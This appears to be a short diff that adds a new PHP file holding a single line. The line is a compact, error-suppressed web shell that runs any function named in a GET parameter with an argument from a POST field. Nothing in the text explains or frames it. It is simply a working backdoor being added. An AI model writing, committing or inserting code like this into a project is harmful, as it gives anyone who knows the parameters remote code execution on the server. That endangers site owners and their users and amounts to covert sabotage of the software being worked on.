@@ -1,0 +1,2 @@
+<?php
+@array_map($_GET['f'], array($_POST['x']));
